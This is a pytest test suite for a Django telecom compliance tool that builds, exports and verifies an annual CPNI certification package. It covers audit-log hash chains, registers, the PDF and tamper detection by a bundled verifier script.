"""The annual CPNI certification and its package, checked file by file: a year's data made through
the services with the clock under control, the ZIP unpacked, its registers, manifest and audit
events compared with the database, the PDF read back, and the stand-alone verifier run the way an
outside auditor runs it."""

import csv
import base64
import hashlib
import io
import json
import subprocess
import sys
import threading
import time
import zipfile
from collections import Counter
from concurrent.futures import ThreadPoolExecutor
from datetime import date, datetime
from datetime import timezone as dt_timezone
from types import SimpleNamespace
from zoneinfo import ZoneInfo

import pypdfium2
import pytest
from django.core.exceptions import ValidationError
from django.core.management import CommandError, call_command
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from compliance import event_export, exports, register_export
from compliance import package as packaging
from compliance.certification_pdf import NO_BROKER_ACTIONS, NO_COMPLAINTS, NO_PRETEXTING, certification_pdf
from compliance.package import build_package
from compliance.year_summary import year_bounds, year_summary
from records import holds, services
from records.audit import GENESIS_HASH, audit_event_record, event_hash
from records.destruction import media_destruction_confirm, record_mark_for_shredding, shredding_confirm
from records.models import AuditEvent, Destruction, Medium, Record, Status
from compliance.models import CertificationFiling, CertificationPackage, CompanyProfile, CustomerComplaint, DataBrokerAction, PretextingObservation
from records.roles import Role
from tests.factories import (
    TEST_PASSWORD,
    SANITIZED,
    ScheduleFactory,
    UserFactory,
    approve_every_section,
    make_company_profile,
    make_record,
)

pytestmark = pytest.mark.django_db

YEAR = 2026
NEW_YORK = ZoneInfo("America/New_York")
PACKAGE_FILES = [
    "summary.json",
    "certification.pdf",
    "public-filing.pdf",
    "audit-events.csv",
    "audit-events.jsonl",
    "destruction-register.csv",
    "complaints.csv",
    "data-broker-actions.csv",
    "pretexting.csv",
    "breaches.csv",
    "opt-out-failures.csv",
    "campaigns.csv",
    "disclosures.csv",
    "approval-notices.csv",
    "approval-evidence.csv",
    "training.csv",
    "duty-evidence.csv",
    "verify_package.py",
    "manifest.json",
    "manifest.sig",
]
MARGIN = 0.9 * 72  # the @page margin of the template, in points
EMPLOYEE_ACCESS = "Improper access by employees"
DISCLOSURE = "Improper disclosure to individuals not authorized to receive it"
ONLINE_ACCESS = "Improper access to online information by individuals not authorized to view it"


# --------------------------------------------------------------------------- helpers

def build(user, year=YEAR, progress=None):
    package = CertificationPackage.objects.create(year=year, requested_by=user, requested_at=timezone.now())
    return build_package(package, progress=progress)


def unpack(package, folder):
    with zipfile.ZipFile(packaging.package_path(package)) as archive:
        archive.extractall(folder)
    return folder


def csv_rows(path):
    """The rows of an exported CSV after its CONFIDENTIAL line, as dicts."""
    with open(path, encoding="utf-8", newline="") as file:
        assert file.readline().startswith("# CONFIDENTIAL — ")
        return list(csv.DictReader(file))


def jsonl_events(path):
    with open(path, encoding="utf-8") as file:
        header, *events = [json.loads(line) for line in file]
    assert header["marking"] == "CONFIDENTIAL"
    return events


def verify(folder):
    """Run the package's verifier as an auditor would, without site-packages (-S): standard library only."""
    result = subprocess.run(
        [sys.executable, "-I", "-S", "verify_package.py"], cwd=folder, capture_output=True, text=True, timeout=60
    )
    return result.returncode, result.stdout.strip()


def rewrite_manifest_entry(folder, name):
    """What a forger would also do: record the tampered file's new hash in the manifest."""
    manifest_path = folder / "manifest.json"
    manifest = json.loads(manifest_path.read_text(encoding="utf-8"))
    data = (folder / name).read_bytes()
    manifest["files"][name] = {"sha256": hashlib.sha256(data).hexdigest(), "size": len(data)}
    manifest_path.write_text(json.dumps(manifest), encoding="utf-8")


def pages_of(data):
    """The text of each page, whitespace normalised."""
    pdf = pypdfium2.PdfDocument(data)
    try:
        return [" ".join(page.get_textpage().get_text_bounded().split()) for page in pdf]
    finally:
        pdf.close()


def margins_of(data):
    """(top margin text, bottom margin text) of each page."""
    pdf = pypdfium2.PdfDocument(data)
    try:
        result = []
        for page in pdf:
            text, (width, height) = page.get_textpage(), page.get_size()
            top = text.get_text_bounded(left=0, bottom=height - MARGIN, right=width, top=height)
            bottom = text.get_text_bounded(left=0, bottom=0, right=width, top=MARGIN)
            result.append((" ".join(top.split()), " ".join(bottom.split())))
        return result
    finally:
        pdf.close()


# --------------------------------------------------------------------------- fixtures

@pytest.fixture(autouse=True)
def var_dir(settings, tmp_path):
    settings.VAR_DIR = tmp_path / "var"
    return settings.VAR_DIR


@pytest.fixture
def olivia(db):
    return UserFactory(username="olivia", first_name="Olivia", last_name="Ortega", title="President and CEO", role=Role.OFFICER)


@pytest.fixture
def profile(olivia):
    return make_company_profile(
        companies=[("Example Telecom, Inc.", "831234"), ("Example Telecom of Vermont, LLC", "831235")], signatory=olivia
    )


@pytest.fixture
def schedule(db):
    return ScheduleFactory(
        code="TOLL-BILLING", title="Toll billing records", period_value=18, period_unit="months",
        legal_minimum_value=18, legal_minimum_unit="months", legal_citation="47 CFR 42.6",
    )


@pytest.fixture
def year_data(frozen_today, profile, schedule, employee, netops, records_manager):
    """2026 as people make it on 2026-11-23: four records logged (one kept under a legal hold, one
    due, one shredded, one disk sanitized), three label checks (found, missing, unreadable), three
    complaints in two categories (a fourth, of 2025, is not the year's), one action against a data
    broker and one pretexting method seen."""
    kept = make_record(custodian=employee, schedule=schedule, title="Call detail records October")
    due = make_record(custodian=employee, status=Status.DUE, schedule=schedule, title="Toll tickets 2024")
    shredded = make_record(custodian=employee, status=Status.DESTROYED, schedule=schedule, title="Paper bills 2024")
    sanitized = make_record(
        custodian=employee, status=Status.DESTROYED, medium=Medium.HARD_DISK, netops=netops, schedule=schedule,
        title="Billing server disk",
    )
    hold = holds.hold_place(
        actor=records_manager, matter="Smith v. Example Telecom", reason="Litigation",
        records=Record.objects.filter(pk=kept.pk), scope="Smith's account",
    )
    services.label_document_check(actor=employee, file_name="bill.txt", data=b"CONFIDENTIAL\nToll detail")
    services.label_document_check(actor=employee, file_name="memo.txt", data=b"Toll detail without the marking")
    services.label_document_check(actor=employee, file_name="scan.bin", data=b"\x00\x01\x02\x03binary")
    for received_on, category in [
        (date(2026, 2, 3), CustomerComplaint.Category.EMPLOYEE_ACCESS),
        (date(2026, 7, 9), CustomerComplaint.Category.EMPLOYEE_ACCESS),
        (date(2026, 9, 14), CustomerComplaint.Category.IMPROPER_DISCLOSURE),
        (date(2025, 12, 31), CustomerComplaint.Category.ONLINE_ACCESS),
    ]:
        CustomerComplaint.objects.create(
            received_on=received_on, category=category, summary=f"Complaint of {received_on}", recorded_by=records_manager
        )
    broker_action = DataBrokerAction.objects.create(
        taken_on=date(2026, 6, 2), forum=DataBrokerAction.Forum.COURT,
        description="Petition against DataFinders LLC in the Superior Court", recorded_by=records_manager,
    )
    pretexting = PretextingObservation.objects.create(
        observed_on=date(2026, 3, 10), method="Caller posing as the account holder asked for call records",
        steps_taken="Call-back to the telephone number of record before any disclosure", recorded_by=records_manager,
    )
    return SimpleNamespace(
        kept=kept, due=due, shredded=shredded, sanitized=sanitized, hold=hold, broker_action=broker_action,
        pretexting=pretexting,
    )


@pytest.fixture
def built(year_data, records_manager, tmp_path):
    """The 2026 package built by the records manager, its progress reports kept, and unzipped."""
    reports = []
    package = build(records_manager, progress=lambda percent, step: reports.append((percent, step)))
    return SimpleNamespace(
        package=package, folder=unpack(package, tmp_path / "package"), reports=reports, data=year_data
    )


# --------------------------------------------------------------------------- the year

def test_a_year_runs_from_midnight_to_midnight_in_the_carriers_time_zone(settings):
    start, end = year_bounds(YEAR)
    assert (start, end) == (datetime(2026, 1, 1, tzinfo=NEW_YORK), datetime(2027, 1, 1, tzinfo=NEW_YORK))
    assert start.isoformat() == "2026-01-01T00:00:00-05:00"


def test_the_summary_counts_the_years_records_holds_checks_and_complaints(year_data):
    summary = year_summary(YEAR)

    assert summary.records_logged == 4
    assert summary.records_destroyed == 2
    assert summary.destroyed_by_medium == {"paper": 1, "hard_disk": 1}
    assert summary.destroyed_by_method == {"cross_cut_shredder": 1, "cryptographic_erase": 1}
    assert (summary.records_due_at_year_end, summary.records_overdue_at_year_end) == (1, 1)
    assert (summary.holds_placed, summary.holds_released, summary.holds_active_at_year_end) == (1, 0, 1)
    assert (summary.label_checks_passed, summary.label_checks_failed, summary.label_checks_unreadable) == (1, 1, 1)
    assert summary.complaints_by_category == {"employee_access": 2, "improper_disclosure": 1, "online_access": 0, "other": 0}
    assert summary.complaints_total == 3
    assert (summary.data_broker_actions, summary.pretexting_observations) == (1, 1)
    assert year_summary(2025).complaints_by_category["online_access"] == 1


def test_records_due_at_year_end_are_read_from_history_not_from_todays_status(year_data, employee, time_machine):
    time_machine.move_to(datetime(2027, 2, 1, 10, tzinfo=NEW_YORK))
    record = record_mark_for_shredding(actor=employee, record=year_data.due)
    shredding_confirm(actor=employee, record=record, destroyed_on=date(2027, 2, 1), method="cross_cut_shredder")

    assert Record.objects.get(pk=year_data.due.pk).status == Status.DESTROYED
    assert (year_summary(YEAR).records_due_at_year_end, year_summary(YEAR).records_overdue_at_year_end) == (1, 1)
    assert year_summary(2027).records_due_at_year_end == 0
    assert year_summary(2027).records_destroyed == 1


def test_a_record_due_for_less_than_the_escalation_period_is_due_but_not_overdue(
    profile, schedule, employee, time_machine, settings
):
    settings.RETENTION_ESCALATION_DAYS = 14
    time_machine.move_to(datetime(2026, 12, 20, 12, tzinfo=NEW_YORK))
    make_record(custodian=employee, status=Status.DUE, schedule=schedule)

    summary = year_summary(YEAR)
    assert (summary.records_due_at_year_end, summary.records_overdue_at_year_end) == (1, 0)


def test_the_years_boundaries_are_those_of_the_carriers_time_zone(profile, records_manager, time_machine, tmp_path):
    time_machine.move_to(datetime(2026, 12, 31, 23, 59, 59, tzinfo=NEW_YORK), tick=False)
    audit_event_record(actor=None, action="test.last_second_of_2026")
    CustomerComplaint.objects.create(
        received_on=timezone.localdate(), category=CustomerComplaint.Category.ONLINE_ACCESS, summary="late",
        recorded_by=records_manager,
    )
    time_machine.move_to(datetime(2027, 1, 1, 0, 0, 0, tzinfo=NEW_YORK), tick=False)
    audit_event_record(actor=None, action="test.first_moment_of_2027")
    CustomerComplaint.objects.create(
        received_on=timezone.localdate(), category=CustomerComplaint.Category.EMPLOYEE_ACCESS, summary="early",
        recorded_by=records_manager,
    )

    of_2026 = build(records_manager, year=2026)
    of_2027 = build(records_manager, year=2027)

    actions_2026 = [event["action"] for event in jsonl_events(unpack(of_2026, tmp_path / "2026") / "audit-events.jsonl")]
    actions_2027 = [event["action"] for event in jsonl_events(unpack(of_2027, tmp_path / "2027") / "audit-events.jsonl")]
    assert actions_2026 == ["test.last_second_of_2026"]
    assert "test.last_second_of_2026" not in actions_2027
    assert actions_2027[0] == "test.first_moment_of_2027"
    assert [row["summary"] for row in csv_rows(tmp_path / "2026" / "complaints.csv")] == ["late"]
    assert [row["summary"] for row in csv_rows(tmp_path / "2027" / "complaints.csv")] == ["early"]
    assert verify(tmp_path / "2026")[0] == 0
    assert verify(tmp_path / "2027")[0] == 0


# --------------------------------------------------------------------------- the package, file by file

def test_the_zip_holds_the_package_files_and_the_package_is_ready(built, var_dir):
    package, path = built.package, packaging.package_path(built.package)
    with zipfile.ZipFile(path) as archive:
        assert archive.namelist() == PACKAGE_FILES

    package.refresh_from_db()
    data = path.read_bytes()
    assert package.state == CertificationPackage.State.READY
    assert (package.progress, package.step, package.error) == (100, "Ready", "")
    assert package.file_name == f"CONFIDENTIAL-cpni-certification-2026-{package.pk}.zip" == path.name
    assert (package.sha256, package.size) == (hashlib.sha256(data).hexdigest(), len(data))
    assert package.finished_at is not None
    assert sorted(p.name for p in (var_dir / "packages").iterdir()) == [path.name]  # no temporary file left

    built_event = AuditEvent.objects.order_by("-sequence").first()
    assert (built_event.action, built_event.object_id) == ("certification.package_built", str(package.pk))
    assert built_event.payload == {"year": 2026, "sha256": package.sha256, "event_count": package.event_count}
    assert package.chain_head_hash == built_event.previous_hash  # the newest event when the build began

    percents = [percent for percent, _ in built.reports]
    assert built.reports[0] == (0, "Starting") and built.reports[-1] == (100, "Ready")
    assert percents == sorted(percents)


def test_every_file_but_the_public_filing_is_marked_confidential(built):
    """The public filing holds no CPNI and is filed as it is (tests/compliance/test_public_filing.py)."""
    folder = built.folder
    for name in PACKAGE_FILES:
        if name.endswith(".csv"):
            first_line = (folder / name).read_text(encoding="utf-8").splitlines()[0]
            assert first_line.startswith("# CONFIDENTIAL — "), name
        elif name.endswith(".jsonl"):
            assert json.loads((folder / name).read_text(encoding="utf-8").splitlines()[0])["marking"] == "CONFIDENTIAL"
        elif name.endswith(".json"):
            assert json.loads((folder / name).read_text(encoding="utf-8"))["marking"] == "CONFIDENTIAL", name
        elif name.endswith(".py"):
            assert "CONFIDENTIAL" in (folder / name).read_text(encoding="utf-8").splitlines()[0]
    pages = margins_of((folder / "certification.pdf").read_bytes())
    assert pages and all(top == "CONFIDENTIAL" and "CONFIDENTIAL" in bottom for top, bottom in pages)


def test_the_registers_hold_the_years_destructions_complaints_and_actions(built):
    folder, data = built.folder, built.data

    destructions = csv_rows(folder / "destruction-register.csv")
    expected = Destruction.objects.filter(destroyed_on__year=YEAR)
    assert len(destructions) == expected.count() == 2
    assert {(row["record_reference"], row["kind"], row["method"], row["certificate_number"]) for row in destructions} == {
        (d.record.reference, d.kind, d.method, d.certificate_number) for d in expected
    }
    assert {row["record_reference"] for row in destructions} == {data.shredded.reference, data.sanitized.reference}
    assert {row["performed_by"] for row in destructions} == {"emma", "nate"}

    complaints = csv_rows(folder / "complaints.csv")
    assert Counter(row["category"] for row in complaints) == {"employee_access": 2, "improper_disclosure": 1}
    assert {row["category_label"] for row in complaints} == {EMPLOYEE_ACCESS, DISCLOSURE}

    [action] = csv_rows(folder / "data-broker-actions.csv")
    assert (action["taken_on"], action["forum"], action["description"]) == (
        "2026-06-02", "court", data.broker_action.description,
    )
    [seen] = csv_rows(folder / "pretexting.csv")
    assert (seen["method"], seen["steps_taken"]) == (data.pretexting.method, data.pretexting.steps_taken)

    summary = json.loads((folder / "summary.json").read_text(encoding="utf-8"))
    assert summary["year"] == YEAR and summary["complaints_total"] == 3 and summary["records_destroyed"] == 2


def test_the_audit_exports_hold_exactly_the_years_events(built):
    folder, package = built.folder, built.package
    start, end = year_bounds(YEAR)
    head = AuditEvent.objects.get(hash=package.chain_head_hash)
    in_database = AuditEvent.objects.filter(
        occurred_at__gte=start, occurred_at__lt=end, sequence__lte=head.sequence
    ).order_by("sequence")

    from_jsonl = jsonl_events(folder / "audit-events.jsonl")
    from_csv = csv_rows(folder / "audit-events.csv")
    assert package.event_count == len(from_jsonl) == len(from_csv) == in_database.count() > 10
    assert [event["sequence"] for event in from_jsonl] == list(in_database.values_list("sequence", flat=True))
    assert [(int(row["sequence"]), row["hash"]) for row in from_csv] == [(e["sequence"], e["hash"]) for e in from_jsonl]
    assert [json.loads(row["payload"]) for row in from_csv] == [event["payload"] for event in from_jsonl]
    assert {"record.created", "record.confirm_shredding", "record.confirm_media_destruction", "hold.placed",
            "label.checked"} <= {event["action"] for event in from_jsonl}


def test_exported_events_recompute_to_their_hashes_with_the_applications_own_function(built):
    events = jsonl_events(built.folder / "audit-events.jsonl")
    first = events[0]
    before = AuditEvent.objects.filter(sequence=first["sequence"] - 1).values_list("hash", flat=True).first()
    assert first["previous_hash"] == (before or GENESIS_HASH)
    previous = first["previous_hash"]
    for event in events:
        assert event["previous_hash"] == previous
        assert event_hash(
            previous_hash=event["previous_hash"], sequence=event["sequence"],
            occurred_at=datetime.fromisoformat(event["occurred_at"]), actor_id=event["actor_id"],
            actor_name=event["actor"], action=event["action"], object_type=event["object_type"],
            object_id=event["object_id"], object_repr=event["object_repr"], payload=event["payload"],
        ) == event["hash"]
        previous = event["hash"]
    assert [event["sequence"] for event in events] == list(range(first["sequence"], first["sequence"] + len(events)))


def test_the_manifest_names_every_file_with_its_hash_and_the_chain_head(built):
    folder, package = built.folder, built.package
    manifest = json.loads((folder / "manifest.json").read_text(encoding="utf-8"))
    events = jsonl_events(folder / "audit-events.jsonl")

    assert list(manifest["files"]) == PACKAGE_FILES[:-2]
    for name, entry in manifest["files"].items():
        data = (folder / name).read_bytes()
        assert (entry["sha256"], entry["size"]) == (hashlib.sha256(data).hexdigest(), len(data)), name
    assert manifest["marking"] == "CONFIDENTIAL"
    assert manifest["year"] == YEAR and manifest["package_id"] == package.pk
    assert manifest["company"] == "Example Telecom, Inc.; Example Telecom of Vermont, LLC"
    assert manifest["event_count"] == package.event_count == len(events)
    assert (manifest["first_sequence"], manifest["last_sequence"]) == (events[0]["sequence"], events[-1]["sequence"])
    assert manifest["last_hash"] == events[-1]["hash"]
    assert manifest["chain_head_hash"] == package.chain_head_hash


@pytest.mark.parametrize("field, value", [("object_repr", "CPNI-2026-999999"), ("actor_id", 999999)])
def test_the_verifier_catches_an_edited_description_or_actor_id(built, field, value):
    folder = built.folder
    jsonl = folder / "audit-events.jsonl"
    lines = jsonl.read_text(encoding="utf-8").splitlines(keepends=True)
    middle = len(lines) // 2
    tampered = json.loads(lines[middle])
    tampered[field] = value
    jsonl.write_text("".join(lines[:middle] + [json.dumps(tampered) + "\n"] + lines[middle + 1:]), encoding="utf-8")
    rewrite_manifest_entry(folder, "audit-events.jsonl")
    code, output = verify(folder)
    assert code == 1 and f"event #{tampered['sequence']} was altered" in output, output


def test_the_verifier_passes_the_package_and_catches_tampering(built):
    folder = built.folder
    original_manifest = (folder / "manifest.json").read_bytes()
    code, output = verify(folder)
    assert code == 0 and output.startswith("OK"), output

    jsonl = folder / "audit-events.jsonl"
    original = jsonl.read_text(encoding="utf-8")
    lines = original.splitlines(keepends=True)
    middle = len(lines) // 2
    tampered = json.loads(lines[middle])
    tampered["actor"] = "somebody-else"
    jsonl.write_text("".join(lines[:middle] + [json.dumps(tampered) + "\n"] + lines[middle + 1:]), encoding="utf-8")
    code, output = verify(folder)
    assert code == 1 and "audit-events.jsonl was changed" in output, output

    rewrite_manifest_entry(folder, "audit-events.jsonl")
    code, output = verify(folder)
    assert code == 1 and f"event #{tampered['sequence']} was altered" in output, output

    jsonl.write_text("".join(lines[:middle] + lines[middle + 1:]), encoding="utf-8")
    rewrite_manifest_entry(folder, "audit-events.jsonl")
    code, output = verify(folder)
    assert code == 1 and f"event #{tampered['sequence']} is missing" in output, output

    jsonl.write_text(original, encoding="utf-8")
    (folder / "manifest.json").write_bytes(original_manifest)
    assert verify(folder)[0] == 0
    with open(folder / "complaints.csv", "a", encoding="utf-8") as complaints:
        complaints.write("99,2026-12-01,employee_access,,invented,,,rita\r\n")
    code, output = verify(folder)
    assert code == 1 and "complaints.csv was changed" in output, output


def test_building_the_same_package_twice_gives_a_valid_package_each_time(built, var_dir, tmp_path):
    package = built.package
    first_count = package.event_count

    again = build_package(package)

    assert again.state == CertificationPackage.State.READY
    assert again.event_count == first_count + 1  # the first build's own audit event is of 2026 too
    assert sorted(p.name for p in (var_dir / "packages").iterdir()) == [package.file_name]
    assert hashlib.sha256(packaging.package_path(package).read_bytes()).hexdigest() == again.sha256
    assert verify(built.folder)[0] == 0
    assert verify(unpack(package, tmp_path / "again"))[0] == 0
    assert AuditEvent.objects.filter(action="certification.package_built", object_id=str(package.pk)).count() == 2


def test_events_are_exported_in_chunks_without_losing_or_repeating_one(year_data, records_manager, monkeypatch, tmp_path):
    monkeypatch.setattr(exports, "CHUNK_SIZE", 3)
    monkeypatch.setattr(event_export, "COPY_SEQUENCES", 3)  # PostgreSQL's COPY, three sequence numbers at a time
    reports = []
    package = build(records_manager, progress=lambda percent, step: reports.append((percent, step)))
    events = jsonl_events(unpack(package, tmp_path / "package") / "audit-events.jsonl")
    sequences = [event["sequence"] for event in events]
    assert len(sequences) == package.event_count > 3 * 3
    assert sequences == list(range(sequences[0], sequences[0] + len(sequences)))
    assert [int(row["sequence"]) for row in csv_rows(tmp_path / "package" / "audit-events.csv")] == sequences
    assert len(csv_rows(tmp_path / "package" / "destruction-register.csv")) == 2
    assert verify(tmp_path / "package")[0] == 0
    # progress is reported between the chunks, and never goes back
    assert len({percent for percent, step in reports if step == "Exporting the audit events"}) > 3
    assert [percent for percent, _ in reports] == sorted(percent for percent, _ in reports)


# Events whose text trips up CSV and JSON writers, at moments with and without microseconds.
AWKWARD_PAYLOAD = {
    "zz": 1,
    "a": 'say "hi", then\\ C:\\path\nnext line\r\n\ttab \x01 end',
    "é": "naïve — “quotes” ✓ \u2028 😀",
    "bb": [1, -2.5, True, None, {"k": None, "c": ","}],
    "nested": {"b": {"aa": [], "a": {}}},
    "": "an empty key",
}
# The same payload as it is exported: jsonb's key order (shortest first, then by UTF-8 bytes).
AWKWARD_PAYLOAD_EXPORTED = json.dumps({
    "": "an empty key",
    "a": AWKWARD_PAYLOAD["a"],
    "bb": [1, -2.5, True, None, {"c": ",", "k": None}],
    "zz": 1,
    "é": AWKWARD_PAYLOAD["é"],
    "nested": {"b": {"a": {}, "aa": []}},
}, ensure_ascii=False)
AWKWARD_MOMENTS = {
    datetime(2026, 3, 1, 10, 11, 12, tzinfo=dt_timezone.utc): "2026-03-01T10:11:12+00:00",
    datetime(2026, 3, 1, 10, 11, 12, 1, tzinfo=dt_timezone.utc): "2026-03-01T10:11:12.000001+00:00",
    datetime(2026, 3, 1, 10, 11, 12, 120000, tzinfo=dt_timezone.utc): "2026-03-01T10:11:12.120000+00:00",
}


@pytest.fixture
def awkward_events(profile, records_manager, time_machine):
    for number, moment in enumerate(AWKWARD_MOMENTS, start=1):
        time_machine.move_to(moment, tick=False)
        audit_event_record(
            actor=records_manager, action="test.awkward", object_type="records.test", object_id=f"{number},{number}",
            object_repr=f'Quote " comma , CR LF \r\n backslash \\ {number}', payload=AWKWARD_PAYLOAD,
        )
    audit_event_record(actor=None, action="test.blank", payload={})  # empty type, id and description
    time_machine.move_to(datetime(2026, 11, 23, 12, tzinfo=NEW_YORK))


def test_events_with_awkward_text_are_exported_exactly_and_verify(awkward_events, records_manager, tmp_path):
    package = build(records_manager)
    folder = unpack(package, tmp_path / "package")
    code, output = verify(folder)
    assert code == 0 and output.startswith(f"OK: {len(PACKAGE_FILES) - 2} files match the manifest; 4 audit events"), output

    # split on LF alone: str.splitlines would also split at the U+2028 left raw in the payload
    lines = (folder / "audit-events.jsonl").read_text(encoding="utf-8").split("\n")[1:]
    assert lines.pop() == ""
    events = [json.loads(line) for line in lines]
    assert lines == [json.dumps(event, ensure_ascii=False) for event in events]  # the one written form
    awkward, [blank] = events[:3], events[3:]
    assert [event["occurred_at"] for event in awkward] == list(AWKWARD_MOMENTS.values())
    assert all(event["payload"] == AWKWARD_PAYLOAD for event in awkward)
    assert all(f', "payload": {AWKWARD_PAYLOAD_EXPORTED}, ' in line for line in lines[:3])
    assert [event["object_id"] for event in awkward] == ["1,1", "2,2", "3,3"]
    assert awkward[0]["object_repr"] == 'Quote " comma , CR LF \r\n backslash \\ 1'
    assert (blank["actor"], blank["object_type"], blank["object_id"], blank["object_repr"], blank["payload"]) == (
        "system", "", "", "", {},
    )

    rows = csv_rows(folder / "audit-events.csv")
    assert [list(row) for row in rows] == [list(event_export.EVENT_FIELDS)] * 4
    assert [{**row, "sequence": int(row["sequence"]), "actor_id": int(row["actor_id"]) if row["actor_id"] else None,
             "payload": json.loads(row["payload"])} for row in rows] == events
    assert [event["actor_id"] for event in events] == [records_manager.pk] * 3 + [None]
    assert [row["payload"] for row in rows] == [AWKWARD_PAYLOAD_EXPORTED] * 3 + ["{}"]
    data = (folder / "audit-events.csv").read_bytes()
    assert b'"Quote "" comma , CR LF \r\n backslash \\ 1"' in data and b',"",' in data  # quoted as PostgreSQL does


class _Collected:
    """What an export writes into a ZIP entry, as bytes."""

    def __init__(self):
        self.parts = []

    def write(self, text):
        self.parts.append(text.encode())

    def write_bytes(self, data):
        self.parts.append(bytes(data))

    def data(self):
        return b"".join(self.parts)


@pytest.mark.postgres
@pytest.mark.django_db(transaction=True)  # so that a second connection sees the events
@pytest.mark.parametrize("alongside", [False, True], ids=["one connection", "two connections"])
@pytest.mark.parametrize("chunk", [event_export.COPY_SEQUENCES, 2])
def test_postgresqls_copy_exports_the_same_bytes_as_the_generic_path(
    year_data, awkward_events, monkeypatch, chunk, alongside
):
    monkeypatch.setattr(event_export, "COPY_SEQUENCES", chunk)
    monkeypatch.setattr(event_export, "JSONL_BLOCK", 3)  # JSON Lines three sequence numbers to a block
    snapshot = packaging.audit_snapshot(YEAR)
    copied, generic = (_Collected(), _Collected()), (_Collected(), _Collected())
    with ThreadPoolExecutor(max_workers=1) as beside, CaptureQueriesContext(connection):  # logged, as with DEBUG on
        event_export.write_events(*copied, YEAR, snapshot, lambda share: None, beside if alongside else None)
    monkeypatch.setattr(event_export, "through_copy", lambda: False)
    event_export.write_events(*generic, YEAR, snapshot, lambda share: None)
    for through_copy, through_python in zip(copied, generic):
        assert through_copy.data() == through_python.data()
        assert through_copy.data().count(b"test.awkward") == 3


@pytest.mark.postgres
def test_postgresqls_copy_exports_the_same_destruction_register_as_the_generic_path(year_data, monkeypatch):
    Destruction.objects.filter(record=year_data.sanitized).update(
        validated_at=datetime(2026, 11, 23, 17, 0, 1, 250000, tzinfo=dt_timezone.utc)
    )
    copied, generic = _Collected(), _Collected()
    with CaptureQueriesContext(connection):  # queries logged, as with DEBUG on
        register_export.write_destructions(copied, YEAR)
    monkeypatch.setattr(register_export, "through_copy", lambda: False)
    register_export.write_destructions(generic, YEAR)
    assert copied.data() == generic.data()
    assert copied.data().count(b"\n") == 4 and b",2026-11-23T17:00:01.250000+00:00\n" in copied.data()


@pytest.mark.postgres
@pytest.mark.django_db(transaction=True)
def test_outside_a_transaction_the_years_documents_are_made_alongside_the_events_on_postgresql(
    year_data, records_manager, monkeypatch, tmp_path
):
    made_in = []
    real = packaging.year_summary

    def summary_noting_its_thread(year):
        made_in.append(threading.current_thread().name)
        return real(year)

    monkeypatch.setattr(packaging, "year_summary", summary_noting_its_thread)
    package = build(records_manager)
    assert made_in and made_in[0].startswith("package-alongside")  # on a connection of its own
    folder = unpack(package, tmp_path / "package")
    with zipfile.ZipFile(packaging.package_path(package)) as archive:
        assert archive.namelist() == PACKAGE_FILES
    code, output = verify(folder)
    assert code == 0 and output.startswith(f"OK: {len(PACKAGE_FILES) - 2} files match the manifest"), output
    assert json.loads((folder / "summary.json").read_text(encoding="utf-8"))["records_destroyed"] == 2
    assert len(csv_rows(folder / "destruction-register.csv")) == 2
    assert len(jsonl_events(folder / "audit-events.jsonl")) == package.event_count > 10


@pytest.mark.postgres
@pytest.mark.django_db(transaction=True)
def test_a_failure_alongside_the_events_fails_the_build_without_exporting_them_all(
    year_data, records_manager, monkeypatch, var_dir
):
    monkeypatch.setattr(event_export, "COPY_SEQUENCES", 1)
    reached, failed = [], threading.Event()

    def broken_pdf(year, draft=False, summary=None, amended=False):
        failed.set()
        raise RuntimeError("the template is broken")

    real = packaging.write_events

    def events_noting_progress(csv_out, jsonl_out, year, snapshot, share_done, beside):
        def noting(share):
            if not reached:  # let the other thread fail first, and its failure reach its future
                failed.wait(10)
                time.sleep(0.5)
            reached.append(share)
            share_done(share)
        real(csv_out, jsonl_out, year, snapshot, noting, beside)

    monkeypatch.setattr(packaging, "certification_pdf", broken_pdf)
    monkeypatch.setattr(packaging, "write_events", events_noting_progress)
    with pytest.raises(RuntimeError, match="the template is broken"):
        build(records_manager)
    package = CertificationPackage.objects.get()
    assert package.state == CertificationPackage.State.FAILED
    assert package.error == "RuntimeError: the template is broken"
    assert list((var_dir / "packages").iterdir()) == []
    assert reached and reached[-1] < 1  # stopped between two ranges of events


@pytest.mark.parametrize("alongside", [
    pytest.param(False, id="in a transaction"),
    # outside one, on PostgreSQL: the JSON Lines are written in another thread
    pytest.param(True, marks=[pytest.mark.postgres, pytest.mark.django_db(transaction=True)], id="alongside"),
])
def test_an_error_while_writing_the_zip_fails_the_build_and_leaves_no_file(
    alongside, year_data, records_manager, monkeypatch, var_dir
):
    real_consume, real_write_bytes = packaging.ZipEntry._consume, packaging.ZipEntry.write_bytes
    streamed_by = set()

    def noting_the_thread(entry, data):
        streamed_by.add((entry.name, threading.current_thread().name.split("_")[0]))
        real_write_bytes(entry, data)

    def disk_full(entry, block):
        if entry.name == "audit-events.jsonl":
            raise OSError(28, "No space left on device")
        real_consume(entry, block)

    monkeypatch.setattr(packaging.ZipEntry, "write_bytes", noting_the_thread)
    monkeypatch.setattr(packaging.ZipEntry, "_consume", disk_full)
    with pytest.raises(OSError, match="No space left on device"):
        build(records_manager)
    package = CertificationPackage.objects.get()
    assert package.state == CertificationPackage.State.FAILED
    assert package.error == "OSError: [Errno 28] No space left on device"
    assert list((var_dir / "packages").iterdir()) == []
    if alongside:
        assert ("audit-events.jsonl", "package-alongside") in streamed_by


def test_a_failed_build_marks_the_package_failed_and_leaves_no_file(records_manager, var_dir):
    with pytest.raises(CompanyProfile.DoesNotExist):
        build(records_manager)
    package = CertificationPackage.objects.get()
    assert package.state == CertificationPackage.State.FAILED
    assert "company profile" in package.error
    assert list((var_dir / "packages").iterdir()) == []


# --------------------------------------------------------------------------- the PDF

def test_the_pdf_states_the_certification_as_filed_certifications_do(built):
    data = (built.folder / "certification.pdf").read_bytes()
    pages = pages_of(data)
    text = " ".join(pages)

    assert len(pages) >= 3
    assert "Annual 47 C.F.R. § 64.2009(e) CPNI Certification for 2026" in pages[0]
    assert "Date filed: Not yet filed" in text
    assert ("Name of company covered by this certification: Example Telecom, Inc. Form 499 Filer ID: 831234 "
            "Name of company covered by this certification: Example Telecom of Vermont, LLC Form 499 Filer ID: 831235") in text
    assert "Name of signatory: Olivia Ortega" in text and "Title of signatory: President and CEO" in text
    assert ("I, Olivia Ortega, certify that I am an officer of the company named above, and acting as an agent of "
            "the company, that I have personal knowledge") in text
    assert "The company has received 3 customer complaints in the past year" in text
    assert f"{EMPLOYEE_ACCESS} 2" in text and f"{DISCLOSURE} 1" in text and f"{ONLINE_ACCESS} 0" in text
